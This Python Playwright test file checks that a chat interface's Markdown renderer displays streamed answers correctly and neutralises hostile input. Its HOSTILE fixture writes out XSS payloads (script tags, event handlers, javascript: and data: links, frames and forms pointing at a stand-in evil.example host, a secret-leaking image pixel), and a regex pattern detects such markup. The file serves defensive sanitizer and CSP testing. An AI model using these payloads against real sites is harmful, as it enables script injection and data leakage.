"""What becomes of an answer's Markdown in a real browser: shown while it is written, and harmless."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.support.browsers import browsing, chatting

RICH = """\
Intro with **bold**, a [link][1] and https://example.com/auto

## Heading

* one
* two

* three after an empty line

  a paragraph of it

1. first
2. second
   - nested

| a | b |
|---|--:|
| 1 | `x\\|y` |

Setext
======

```python
def f():
    return "* no list"

```

~~~
open ~~~ fence
~~~

> quote
continued lazily

- [x] done
- [ ] open

Text<br>with <b onclick="x()">raw</b> HTML & entities &amp; such.
<div>

block

</div>

[1]: https://example.com/one "title"

    indented code

***

The end.
"""

HOSTILE = """\
[echo] <script>pwned = 1</script> <img src=x onerror="pwned = 2"> <svg onload="pwned = 3"><p style="position:fixed">

[click](javascript:pwned=4) [data](data:text/html,<script>pwned=5</script>) [vb](vbscript:x) ![alt](javascript:pwned=6)
[newline](java&#10;script:pwned=7) <a href="javascript:pwned=8">raw</a> <iframe src="https://evil.example/f"></iframe>
<form action="https://evil.example/"><input name=a></form> <style>body{display:none}</style> <link rel=stylesheet
href=https://evil.example/x.css> <meta http-equiv=refresh content="0;url=https://evil.example/"> <base href="https://evil.example/">

![remote](https://evil.example/pixel.png?secret=1) ![protocol](//evil.example/p.png) <img src="https://evil.example/q.png">
![svg](data:image/svg+xml;base64,PHN2Zy8+) [ref image]: https://evil.example/r.png ![ref image]

```html" onmouseover="pwned=9
<script>pwned = 10</script>
```

| <img src=x onerror=pwned=11> | `<script>` |
|---|---|
| <a href=javascript:pwned=12>x</a> | y |

The last words.
"""
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAA"
    "AfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as opened:
        yield opened


def test_markdown_is_shown_as_what_it_means(browser: Browser) -> None:
    with chatting(browser) as visit:
        visit.ask(f"[echo] {RICH}")
        answer = visit.answered()
        expect(answer.get_by_role("heading", name="Heading")).to_be_visible()
        expect(answer.get_by_role("heading", name="Setext")).to_be_visible()
        expect(answer.get_by_role("region", name="Code, python")).to_contain_text('return "* no list"')
        expect(answer.get_by_role("cell", name="x|y")).to_be_visible()
        expect(answer.get_by_role("checkbox")).to_have_count(2)
        expect(answer.locator("li", has_text="nested").last).to_be_visible()
        link = answer.get_by_role("link", name="link", exact=True)
        expect(link).to_have_attribute("href", "https://example.com/one")
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        expect(answer).to_contain_text('<b onclick="x()">raw</b>')


def test_hostile_words_run_nothing_load_nothing_and_stay_readable(browser: Browser) -> None:
    with chatting(browser) as visit:
        page, asked = visit.page, []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        visit.ask(HOSTILE)
        answer = visit.answered()
        expect(answer).to_contain_text("The last words.")
        expect(answer).to_contain_text('<img src=x onerror="pwned = 2">')
        for link in answer.get_by_role("link").all():
            link.hover()
        page.wait_for_timeout(300)
        assert {url for url in asked if not url.startswith(visit.url)} == set()
        assert page.evaluate("typeof pwned") == "undefined"
        assert page.evaluate(_SUSPECTS) == []
        assert page.url == f"{visit.url}/"


_SUSPECTS = """() => [...document.querySelectorAll(".answer *")].flatMap((element) => {
  const tag = /^(script|style|iframe|form|link|meta|base|svg|object|embed|input)$/.test(element.localName);
  const attributes = [...element.attributes].filter(({ name, value }) =>
    /^on|^style$|^id$|^name$/.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value) || name === "src");
  return [...(tag ? [element.localName] : []), ...attributes.map(({ name, value }) => `${name}=${value}`)];
})"""


def test_a_remote_image_is_a_link_and_one_that_came_along_is_shown(browser: Browser) -> None:
    with chatting(browser) as visit:
        visit.ask(f"[echo] ![a chart](https://pictures.example/x.png) and ![a dot]({PIXEL})")
        answer = visit.answered()
        expect(answer.get_by_role("link", name="a chart")).to_have_attribute("href", "https://pictures.example/x.png")
        expect(answer.get_by_role("img", name="a dot")).to_have_attribute("src", PIXEL)
        expect(answer.locator("img")).to_have_count(1)


def test_the_policy_stands_behind_the_sanitizer(browser: Browser) -> None:
    heard: list[str] = []
    with chatting(browser, "Content Security Policy", "TrustedHTML") as visit:
        visit.page.on("console", lambda message: heard.append(message.text))
        tried = visit.page.evaluate(
            """async () => {
              const image = new Image();
              const loading = new Promise((resolve) => (image.onload = image.onerror = ({ type }) => resolve(type)));
              image.src = "https://evil.example/x.png";
              let written = "written";
              try { document.body.innerHTML = "<b>x</b>" } catch (error) { written = error.name }
              return [await loading, written];
            }"""
        )
        assert tried == ["error", "TypeError"]
        violated = [refusal for refusal in ("img-src", "TrustedHTML") if any(refusal in said for said in heard)]
        assert violated == ["img-src", "TrustedHTML"]


def write_in_pieces(page: Page, text: str, size: int) -> Any:
    """[what pieces of `size` characters end as, what the whole is]; a frame is as short as a timer can be."""
    return page.evaluate(
        """async ([text, size]) => {
          const { LiveMarkdown, markdownOf } = await import("/page/markdown.js");
          globalThis.requestAnimationFrame = (onframe) => setTimeout(() => onframe(performance.now()));
          globalThis.cancelAnimationFrame = clearTimeout;
          const nextFrame = () => new Promise((resolve) => requestAnimationFrame(resolve));
          const element = document.createElement("div");
          const whole = document.createElement("div");
          const live = new LiveMarkdown(element, () => {});
          for (let at = 0; at < text.length; at += size) {
            live.write(text.slice(at, at + size));
            if (size > 3 || at % 3 === 0) await nextFrame();
          }
          live.end();
          whole.append(markdownOf(text));
          return [element.innerHTML, whole.innerHTML];
        }""",
        [text, size],
    )


@pytest.mark.parametrize("size", [1, 7, 50, 5_000])
def test_text_that_came_in_pieces_ends_as_the_whole_does(browser: Browser, size: int) -> None:
    with chatting(browser) as visit:
        for text in (RICH, RICH.replace("[1]: https://example.com/one", "1 "), RICH.replace("\n", "\r\n")):
            pieces, whole = write_in_pieces(visit.page, text, size)
            assert pieces == whole


def test_finished_blocks_are_not_touched_again(browser: Browser) -> None:
    """What keeps a long answer smooth: the work of a frame is that of its newest blocks."""
    with chatting(browser) as visit:
        lengths = visit.page.evaluate(
            """async (block) => {
              const { LiveMarkdown } = await import("/page/markdown.js");
              const element = document.createElement("div");
              let rendered = () => {};
              const live = new LiveMarkdown(element, () => rendered());
              const changed = [];
              const added = (records) => records.reduce((sum, { addedNodes }) => sum + addedNodes.length, 0);
              new MutationObserver((records) => changed.push(added(records))).observe(element, { childList: true });
              for (let n = 0; n < 200; n++) {
                const shown = new Promise((done) => { rendered = done; });
                live.write(block);
                await shown; // on a busy machine a render may skip frames, and then has more than one block to write
              }
              live.end();
              await null;
              return [element.childNodes.length, Math.max(...changed)];
            }""",
            "A paragraph of **some** words.\n\n* and\n* a list\n\n",
        )
        blocks, most_in_a_frame = lengths
        assert blocks >= 400
        assert most_in_a_frame <= 100
